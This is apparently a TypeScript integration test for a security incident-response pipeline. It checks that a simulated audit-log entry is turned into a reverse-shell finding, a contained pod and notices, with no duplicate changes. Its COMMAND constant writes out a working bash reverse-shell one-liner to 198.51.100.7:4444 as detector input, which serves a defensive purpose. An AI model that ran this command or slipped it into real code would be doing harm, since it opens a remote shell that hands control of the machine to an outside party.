import { strict as assert } from 'node:assert';
import { execEntry } from '../../local/scenarios/exec-entry.ts';
import type { Stack } from '../../local/stack.ts';
import { SHOP } from '../../local/world/seed.ts';
import { finding } from '../../shared/model/finding.ts';
import type { Topic } from '../../shared/model/ids.ts';
import type { Incident } from '../../shared/model/incident.ts';
import { notice } from '../../shared/model/notice.ts';
import { CONTAIN, type Desk, podNamed } from '../kit/containment.ts';
import { describeWith } from '../require.ts';
import { changesBy, isCarriedOut, stackFor, until } from './kit.ts';

const FLOW = ['detect-audit-log', 'decide', 'contain', 'notify'] as const;
const COMMAND = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';

/** Somebody opens a reverse shell in a pod: gives the incident once it is carried out. */
const attacked = async (stack: Stack, desk: Desk): Promise<{ incident: Incident; pod: string }> => {
  const pod = podNamed(desk, 'shop', 'cart').metadata.name;
  const who = { at: Date.now(), principal: 'ana@example.com', cluster: SHOP, namespace: 'shop', pod };
  await stack.publish('audit-log', execEntry({ ...who, command: COMMAND }));
  const incident = await until(async () => {
    const [first] = (await stack.stores.incidents.list({})).items;
    return isCarriedOut(first) && first;
  });
  return { incident, pod };
};

// One direction, over processes: audit log entry, finding, incident, decision, plan, steps, notices.
describe('from an audit log entry to a contained pod', function () {
  this.timeout(60_000);

  for (const copies of [1, 5]) {
    it(`one incident, one change each, where every message comes ${copies === 1 ? 'once' : `${copies} times`}`, async () => {
      await using run = await stackFor({ functions: FLOW });
      const { stack, desk } = run;
      stack.broker?.setFaults({ copies: () => copies });
      const { incident, pod } = await attacked(stack, desk);
      await stack.idle();

      const bodies = (topic: Topic): unknown[] =>
        (stack.broker?.published(topic) ?? []).map(({ data }) => JSON.parse(Buffer.from(data, 'base64').toString()));
      const findings = bodies('findings').map((body) => finding.parse(body));
      assert.ok(findings.some(({ rule }) => rule === 'exec-reverse-shell'));
      assert.equal((await stack.stores.incidents.list({})).items.length, 1);
      assert.equal(incident.target.pod, pod);
      assert.equal(incident.state, 'contained');
      assert.deepEqual(incident.decision?.verdict, 'act');
      const kinds = bodies('notices').map((body) => notice.parse(body).kind);
      assert.ok(kinds.includes('opened') && kinds.includes('contained'), kinds.join(', '));
      const changes = changesBy(stack, CONTAIN);
      assert.ok(changes.length > 5);
      assert.equal(new Set(changes).size, changes.length);
      assert.equal(stack.broker?.counters().dead, 0);
    });
  }
});

describeWith('pubsub', 'the same over the Pub/Sub emulator', function () {
  this.timeout(90_000);

  it('contains the pod, and changes nothing twice', async () => {
    await using run = await stackFor({ functions: FLOW, pubsub: 'emulator' });
    const { stack, desk } = run;
    const { incident } = await attacked(stack, desk);
    assert.equal(incident.state, 'contained');
    await stack.idle();
    const changes = changesBy(stack, CONTAIN);
    assert.equal(new Set(changes).size, changes.length);
  });
});
